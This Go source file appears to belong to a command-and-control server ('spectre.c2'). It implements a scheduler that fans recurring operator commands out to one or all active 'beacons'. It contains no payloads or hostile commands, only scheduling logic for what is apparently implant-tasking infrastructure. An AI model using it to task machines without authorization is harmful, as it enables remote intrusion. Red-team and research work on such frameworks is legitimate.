package services

import (
	"context"
	"fmt"
	"time"

	"github.com/google/uuid"
	"github.com/robfig/cron/v3"
	"spectre.c2/internal/core/domain"
	"spectre.c2/internal/core/logger"
	"spectre.c2/internal/core/ports"
)

// SchedulerService fires recurring job templates into the queue. Schedules
// within one sweep are processed sequentially to keep run_count/next_run_at
// ordering simple; sweeps run concurrently with ongoing check-ins.
type SchedulerService struct {
	repo     ports.ScheduleRepository
	jobs     *JobService
	beacons  *BeaconService
	activity *ActivityService
	tick     time.Duration
	cron     *cron.Cron
	now      func() time.Time

	// recordFire is bumped once per firing, sweep-driven or manual.
	recordFire func()
}

// SetFireRecorder registers a counter invoked on every firing.
func (s *SchedulerService) SetFireRecorder(fn func()) {
	s.recordFire = fn
}

func NewSchedulerService(repo ports.ScheduleRepository, jobs *JobService, beacons *BeaconService, activity *ActivityService, tick time.Duration) *SchedulerService {
	if tick <= 0 {
		tick = time.Minute
	}
	return &SchedulerService{
		repo:     repo,
		jobs:     jobs,
		beacons:  beacons,
		activity: activity,
		tick:     tick,
		now:      time.Now,
	}
}

// Start runs the sweep on a fixed cadence until ctx is cancelled.
func (s *SchedulerService) Start(ctx context.Context) error {
	s.cron = cron.New()
	_, err := s.cron.AddFunc(fmt.Sprintf("@every %s", s.tick), func() {
		s.Sweep(ctx)
	})
	if err != nil {
		return err
	}
	s.cron.Start()
	go func() {
		<-ctx.Done()
		s.cron.Stop()
	}()
	return nil
}

// Sweep fires every enabled schedule whose next_run_at has passed.
func (s *SchedulerService) Sweep(ctx context.Context) {
	now := s.now()
	due, err := s.repo.ListDue(ctx, now)
	if err != nil {
		logger.Error("scheduler sweep failed", "error", err)
		return
	}
	for _, schedule := range due {
		created := s.fire(ctx, schedule, now)
		s.advance(ctx, schedule, now)
		logger.Info("schedule fired", "schedule_id", schedule.ID, "name", schedule.Name, "jobs_created", created)
	}
}

// RunNow fires one schedule out of band. Manual runs are additive: they count
// and stamp like a firing but never advance next_run_at.
func (s *SchedulerService) RunNow(ctx context.Context, scheduleID string) (int, error) {
	schedule, err := s.repo.GetSchedule(ctx, scheduleID)
	if err != nil {
		return 0, err
	}
	now := s.now()
	created := s.fire(ctx, schedule, now)
	schedule.RunCount++
	schedule.LastRunAt = &now
	schedule.UpdatedAt = now
	if err := s.repo.UpdateSchedule(ctx, schedule); err != nil {
		logger.Warn("schedule stamp failed after manual run", "schedule_id", schedule.ID, "error", err)
	}
	return created, nil
}

// fire resolves targets and enqueues one job per target. Enqueue failure for
// one beacon never blocks the rest of the fan-out; zero targets is a normal
// outcome, not an error.
func (s *SchedulerService) fire(ctx context.Context, schedule *domain.ScheduledJob, now time.Time) int {
	targets, err := s.resolveTargets(ctx, schedule)
	if err != nil {
		logger.Error("schedule target resolution failed", "schedule_id", schedule.ID, "error", err)
		s.activity.RecordError(ctx, schedule.BeaconID, "schedule target resolution failed: "+err.Error(),
			domain.ParamMap{"schedule_id": schedule.ID})
		return 0
	}

	created := 0
	for _, beaconID := range targets {
		if _, err := s.jobs.EnqueueScheduled(ctx, beaconID, schedule.Type, schedule.Command, schedule.Parameters, schedule.ID); err != nil {
			logger.Warn("scheduled enqueue failed", "schedule_id", schedule.ID, "beacon_id", beaconID, "error", err)
			s.activity.RecordError(ctx, beaconID, "scheduled enqueue failed: "+err.Error(),
				domain.ParamMap{"schedule_id": schedule.ID})
			continue
		}
		created++
	}

	s.activity.Record(ctx, domain.ActivityScheduleFired, ActivityFields{
		BeaconID: schedule.BeaconID,
		Details: domain.ParamMap{
			"schedule_id":  schedule.ID,
			"name":         schedule.Name,
			"targets":      len(targets),
			"jobs_created": created,
		},
	})
	if s.recordFire != nil {
		s.recordFire()
	}
	return created
}

func (s *SchedulerService) resolveTargets(ctx context.Context, schedule *domain.ScheduledJob) ([]string, error) {
	if schedule.BeaconID != "" {
		return []string{schedule.BeaconID}, nil
	}
	active, err := s.beacons.ListActive(ctx)
	if err != nil {
		return nil, err
	}
	ids := make([]string, 0, len(active))
	for _, b := range active {
		ids = append(ids, b.ID)
	}
	return ids, nil
}

// advance moves next_run_at forward by whole periods until it is in the
// future, increments run_count once and stamps last_run_at. Advancing happens
// even when the fleet was empty at fire time.
func (s *SchedulerService) advance(ctx context.Context, schedule *domain.ScheduledJob, now time.Time) {
	period := schedule.Interval.Period()
	next := schedule.NextRunAt.Add(period)
	for !next.After(now) {
		next = next.Add(period)
	}
	schedule.NextRunAt = next
	schedule.RunCount++
	schedule.LastRunAt = &now
	schedule.UpdatedAt = now
	if err := s.repo.UpdateSchedule(ctx, schedule); err != nil {
		logger.Error("schedule advance failed", "schedule_id", schedule.ID, "error", err)
	}
}

// ScheduleInput is the operator-facing create/update shape.
type ScheduleInput struct {
	Name       string                  `json:"name"`
	Type       domain.JobType          `json:"job_type"`
	Command    string                  `json:"command"`
	Parameters domain.ParamMap         `json:"parameters"`
	Interval   domain.ScheduleInterval `json:"schedule_type"`
	BeaconID   string                  `json:"beacon_id"`
	Enabled    *bool                   `json:"is_enabled"`
}

// CreateSchedule validates and stores a new template. The first firing is one
// full period out.
func (s *SchedulerService) CreateSchedule(ctx context.Context, in ScheduleInput) (*domain.ScheduledJob, error) {
	if in.Name == "" {
		return nil, domain.NewValidationError("name", "required")
	}
	if !in.Interval.Valid() {
		return nil, domain.NewValidationError("schedule_type", "must be hourly, daily or weekly")
	}
	if in.Type.RequiresCommand() && in.Command == "" {
		return nil, domain.NewValidationError("command", fmt.Sprintf("required for job type %s", in.Type))
	}
	if in.BeaconID != "" {
		if _, err := s.beacons.Get(ctx, in.BeaconID); err != nil {
			if domain.IsNotFound(err) {
				return nil, domain.NewValidationError("beacon_id", "unknown beacon")
			}
			return nil, err
		}
	}

	now := s.now()
	enabled := true
	if in.Enabled != nil {
		enabled = *in.Enabled
	}
	schedule := &domain.ScheduledJob{
		ID:         "sched-" + uuid.New().String(),
		Name:       in.Name,
		Type:       in.Type,
		Command:    in.Command,
		Parameters: in.Parameters.Clone(),
		Interval:   in.Interval,
		BeaconID:   in.BeaconID,
		Enabled:    enabled,
		NextRunAt:  now.Add(in.Interval.Period()),
		CreatedAt:  now,
		UpdatedAt:  now,
	}
	if err := s.repo.CreateSchedule(ctx, schedule); err != nil {
		return nil, err
	}
	return schedule, nil
}

// UpdateSchedule applies operator edits. Changing the interval re-anchors
// next_run_at from now.
func (s *SchedulerService) UpdateSchedule(ctx context.Context, scheduleID string, in ScheduleInput) (*domain.ScheduledJob, error) {
	schedule, err := s.repo.GetSchedule(ctx, scheduleID)
	if err != nil {
		return nil, err
	}
	if in.Name != "" {
		schedule.Name = in.Name
	}
	if in.Type != "" {
		schedule.Type = in.Type
	}
	if in.Command != "" {
		schedule.Command = in.Command
	}
	if in.Parameters != nil {
		schedule.Parameters = in.Parameters.Clone()
	}
	if in.Interval != "" {
		if !in.Interval.Valid() {
			return nil, domain.NewValidationError("schedule_type", "must be hourly, daily or weekly")
		}
		if in.Interval != schedule.Interval {
			schedule.Interval = in.Interval
			schedule.NextRunAt = s.now().Add(in.Interval.Period())
		}
	}
	if in.Enabled != nil {
		schedule.Enabled = *in.Enabled
	}
	if schedule.Type.RequiresCommand() && schedule.Command == "" {
		return nil, domain.NewValidationError("command", fmt.Sprintf("required for job type %s", schedule.Type))
	}
	schedule.UpdatedAt = s.now()
	if err := s.repo.UpdateSchedule(ctx, schedule); err != nil {
		return nil, err
	}
	return schedule, nil
}

// DeleteSchedule removes a template. Jobs it already created are untouched.
func (s *SchedulerService) DeleteSchedule(ctx context.Context, scheduleID string) error {
	return s.repo.DeleteSchedule(ctx, scheduleID)
}

// GetSchedule returns one template.
func (s *SchedulerService) GetSchedule(ctx context.Context, scheduleID string) (*domain.ScheduledJob, error) {
	return s.repo.GetSchedule(ctx, scheduleID)
}

// ListSchedules returns all templates.
func (s *SchedulerService) ListSchedules(ctx context.Context) ([]*domain.ScheduledJob, error) {
	return s.repo.ListSchedules(ctx)
}
